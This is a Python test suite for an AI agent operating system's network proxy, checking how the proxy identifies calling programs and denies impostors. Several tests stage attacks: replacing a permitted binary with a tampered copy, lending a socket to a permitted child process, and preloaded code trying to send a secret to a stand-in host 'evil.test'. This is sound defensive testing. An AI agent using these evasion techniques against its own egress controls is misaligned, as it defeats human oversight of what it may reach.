"""Who is calling: executables pinned on first use, scripts of interpreters, shared sockets, and what LD_PRELOAD changes."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import socket
import sys
from pathlib import Path

import pytest

from agent_os.core.principal import Principal
from agent_os.effects.proxy import ListenerIdentity, Treatment
from agent_os.effects.proxy.credentials import Secret
from tests.e2e.network.world import Client, Place, World

CONNECT = """
import os, socket, sys
s = socket.create_connection(("127.0.0.1", {own}))
s.sendall(b"CONNECT a.test:{port} HTTP/1.1\\r\\nHost: a.test:{port}\\r\\n\\r\\n")
print(s.recv(4096).split()[1].decode())
"""


async def program(*argv: str, **options: object) -> str:
    """Run a program to its end; what it said."""
    made = await asyncio.create_subprocess_exec(*argv, stdout=asyncio.subprocess.PIPE, **options)  # type: ignore[arg-type]
    said, _ = await asyncio.wait_for(made.communicate(), 20)
    return said.decode().strip()


async def guarded(world: World, binaries: list[str]) -> tuple[str, tuple[str, int], int]:
    """A guard that lets these programs reach a.test; a script that tries; the listener's address."""
    upstream = await world.upstream()
    world.allow(Place("a.test", upstream.port, binaries=binaries))
    await world.start()
    address = await world.listen(identity=ListenerIdentity(uid=os.geteuid()))
    return CONNECT.format(own=address[1], port=upstream.port), address, upstream.port


def copy_of_python(folder: Path) -> Path:
    """An interpreter of our own, so that it can be replaced."""
    made = folder / "tool"
    shutil.copy(os.path.realpath(sys.executable), made)
    return made


async def test_a_listed_program_connects_and_another_does_not(world: World, tmp_path: Path) -> None:
    """Identity is the executable's path: the listed one is let through, the same code elsewhere is not."""
    tool = copy_of_python(tmp_path)
    script, _, _ = await guarded(world, [str(tool)])
    assert await program(str(tool), "-c", script) == "200"
    assert await program(sys.executable, "-c", script) == "403"
    stated = world.door.stated[0]["executable"]
    assert stated.digest.startswith("sha256:")
    assert stated.ancestors[0] == os.path.realpath(sys.executable)


async def test_a_program_replaced_after_its_first_use_loses_its_rights(world: World, tmp_path: Path) -> None:
    """The file at the path is another one now: no identity, an alert, denied. Touching it alone changes nothing."""
    tool = copy_of_python(tmp_path)
    script, _, _ = await guarded(world, [str(tool)])
    assert await program(str(tool), "-c", script) == "200"
    os.utime(tool)
    assert await program(str(tool), "-c", script) == "200"
    evil = tmp_path / "evil"
    shutil.copy(os.path.realpath(sys.executable), evil)
    with evil.open("ab") as file:
        file.write(b"\0evil")
    evil.chmod(0o755)
    evil.replace(tool)
    assert await program(str(tool), "-c", script) == "403"
    assert world.door.stated[-1]["executable"] is None
    assert world.guard is not None
    assert world.guard.snapshot()["counts"]["alerts"] == 1


async def test_the_script_of_an_interpreter_is_told(world: World, tmp_path: Path) -> None:
    """A script run by a permitted interpreter is a fact of its own, so that a policy can tell scripts apart."""
    script, _, _ = await guarded(world, [os.path.realpath(sys.executable)])
    path = tmp_path / "job.py"
    path.write_text(script)
    assert await program(sys.executable, "-W", "ignore", str(path)) == "200"
    assert world.door.stated[-1]["executable"].script == str(path)
    (tmp_path / "evil").mkdir()
    (tmp_path / "evil" / "job.py").write_text(f"import os\nos.chdir({str(tmp_path)!r})\n{script}")
    assert await program(sys.executable, "job.py", cwd=tmp_path / "evil") == "200"
    assert world.door.stated[-1]["executable"].script == "", "a relative name is read in the folder of now"
    assert await program(sys.executable, "-c", script) == "200"
    assert world.door.stated[-1]["executable"].script == ""


async def test_a_socket_shared_by_two_programs_belongs_to_neither(world: World, tmp_path: Path) -> None:
    """A connection whose descriptor a permitted and another program hold is nobody's: denied."""
    tool = copy_of_python(tmp_path)
    script, address, port = await guarded(world, [str(tool)])
    sharing = f"""
import socket, subprocess, time
s = socket.create_connection(("127.0.0.1", {address[1]}))
s.set_inheritable(True)
child = subprocess.Popen([{str(tool)!r}, "-c", "import time; time.sleep(5)"], close_fds=False)
time.sleep(0.3)
s.sendall(b"CONNECT a.test:{port} HTTP/1.1\\r\\nHost: a.test:{port}\\r\\n\\r\\n")
print(s.recv(4096).split()[1].decode())
child.kill()
"""
    assert await program(sys.executable, "-c", sharing) == "403"
    assert await program(str(tool), "-c", script) == "200"


async def test_a_known_program_does_not_lend_its_name(world: World, tmp_path: Path) -> None:
    """ATTACK: a permitted program that was just seen is started with another's socket, and the other speaks on it. Denied.

    The twin is the permitted program's own next connection.
    """
    tool = copy_of_python(tmp_path)
    script, address, _ = await guarded(world, [str(tool)])
    waiting = script + "sys.stdout.flush()\nsys.stdin.readline()\n" + script
    stealing = f"""
import os, socket, subprocess, sys
s = socket.create_connection(("127.0.0.1", {address[1]}))
s.set_inheritable(True)
child = subprocess.Popen([{str(tool)!r}, "-c", {waiting!r}], close_fds=False, stdin=-1, stdout=-1, text=True)
seen = child.stdout.readline().strip()
s.sendall({script!r}.split('sendall(b"')[1].split('")')[0].encode().decode("unicode_escape").encode())
stolen = s.recv(4096).split()[1].decode()
s.close()
print(seen, stolen, child.communicate("\\n")[0].strip())
"""
    assert (await program(sys.executable, "-c", stealing)).split() == ["200", "403", "200"]


async def test_a_program_that_becomes_another_script_has_that_name(world: World, tmp_path: Path) -> None:
    """ATTACK: one process, first a known script, then by exec another one: the second is not the first."""
    script, _, _ = await guarded(world, [os.path.realpath(sys.executable)])
    second = tmp_path / "second.py"
    second.write_text(script)
    first = tmp_path / "first.py"
    first.write_text(f"{script}\nsys.stdout.flush()\nos.execv(sys.executable, [sys.executable, {str(second)!r}])\n")
    assert (await program(sys.executable, str(first))).split() == ["200", "200"]
    told = [stated["executable"].script for stated in world.door.stated]
    assert told == [str(first), str(second)]


async def test_preloaded_code_keeps_the_identity_and_still_meets_the_rest(world: World, tmp_path: Path) -> None:
    """Foreign code in a permitted program (PYTHONSTARTUP-like, LD_PRELOAD) has its identity: said plainly, not denied.

    What still holds: the destination, each request, and where a secret may go.
    """
    upstream = await world.upstream()
    me = os.path.realpath(sys.executable)
    world.vault.secrets["KEY"] = Secret("KEY", "the-real-secret-1", ("a.test",))
    header = frozenset({"header"})
    world.allow(Place("a.test", upstream.port, [("GET", "/ok")], Treatment(), binaries=[me], secrets={"KEY": header}))
    world.allow(Place("b.test", upstream.port, [("GET", "/ok")], Treatment(), binaries=[me]))
    await world.start()
    own = (await world.listen(identity=ListenerIdentity(uid=os.geteuid())))[1]
    foreign = tmp_path / "sitecustomize.py"
    foreign.write_text(
        "import json, urllib.request, urllib.error\n"
        f"h = urllib.request.ProxyHandler({{'http': 'http://127.0.0.1:{own}'}})\n"
        "o = urllib.request.build_opener(h)\n"
        "def ask(url):\n"
        "    try:\n"
        "        r = urllib.request.Request(url, headers={'X-Key': 'agentos-secret:KEY'})\n"
        "        return o.open(r).status\n"
        "    except urllib.error.HTTPError as e:\n"
        "        return e.code\n"
        f"print(json.dumps([ask(f'http://{{h}}:{upstream.port}{{p}}') for h, p in\n"
        "  [('a.test', '/ok'), ('a.test', '/evil'), ('b.test', '/ok'), ('evil.test', '/')]]))\n"
    )
    said = await program(sys.executable, "-c", "pass", env={"PYTHONPATH": str(tmp_path)})
    assert json.loads(said) == [200, 403, 403, 403]
    assert upstream.text.count(b"the-real-secret-1") == 1


async def test_two_agents_cannot_use_each_others_listeners(world: World) -> None:
    """A listener with a token serves only who knows it (HTTP and SOCKS5); the principal is the listener's own."""
    upstream = await world.upstream()
    world.allow(Place("a.test", upstream.port, treatment=Treatment()))
    await world.start()
    alice = ListenerIdentity(Principal(agent="alice"), token="alices-token", executables=False)
    address = await world.listen(identity=alice)
    name = f"a.test:{upstream.port}"
    request = f"GET http://{name}/ok HTTP/1.1\r\nHost: {name}\r\n"
    wrong = "Proxy-Authorization: Basic Ym9iOmJvYnMtdG9rZW4=\r\n"  # bob:bobs-token
    right = "Proxy-Authorization: Basic eDphbGljZXMtdG9rZW4=\r\n"  # x:alices-token
    for fields in ("", wrong):
        client = await Client.to(address)
        assert (await client.send((request + fields + "\r\n").encode()).answer())[0] == 407
    stranger = await Client.to(address)
    stranger.send(b"\x05\x01\x00")
    assert await stranger.rest() == b"\x05\xff"
    assert world.door.asked == []
    twin = await Client.to(address)
    assert (await twin.send((request + right + "\r\n").encode()).answer())[0] == 200
    assert world.door.requests()[0].principal.agent == "alice"
    friend = await Client.to(address)
    friend.send(b"\x05\x01\x02\x01\x01x\x0calices-token")
    assert await friend.reader.readexactly(4) == b"\x05\x02\x01\x00"
    twin.close()


@pytest.mark.root
@pytest.mark.skipif(os.geteuid() != 0, reason="becomes another user")
async def test_another_users_process_is_turned_away(world: World) -> None:
    """A listener for one uid serves no other: by the kernel's word over TCP and over unix sockets."""
    upstream = await world.upstream()
    world.allow(Place("a.test", upstream.port))
    await world.start()
    own = (await world.listen(identity=ListenerIdentity(uid=os.geteuid())))[1]
    script = CONNECT.format(own=own, port=upstream.port).replace("print(", "print('got', ")
    tool = shutil.which("curl") or "curl"
    refused = await asyncio.create_subprocess_exec(
        tool, "-sS", "-x", f"http://127.0.0.1:{own}", f"http://a.test:{upstream.port}/", user=65534,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT,
    )  # fmt: skip
    said, _ = await refused.communicate()
    assert refused.returncode in (52, 56), said  # closed, or reset
    assert upstream.connections == 0
    assert await program(sys.executable, "-c", script) == "got 200"


async def test_unix_socket_peers_are_known_by_the_kernel(world: World, tmp_path: Path) -> None:
    """Over a unix socket the peer's process is SO_PEERCRED's, and its executable is a fact."""
    upstream = await world.upstream()
    me = os.path.realpath(sys.executable)
    world.allow(Place("a.test", upstream.port, binaries=[me]))
    await world.start()
    assert world.guard is not None
    path = tmp_path / "guard.sock"
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.bind(str(path))
    sock.listen()
    await world.guard.serve_listener(sock, "proxy", ListenerIdentity(uid=os.geteuid()))
    client = await Client.to(str(path))
    assert await client.connect(f"a.test:{upstream.port}") == 200
    assert world.door.stated[0]["executable"].path == me
    client.close()
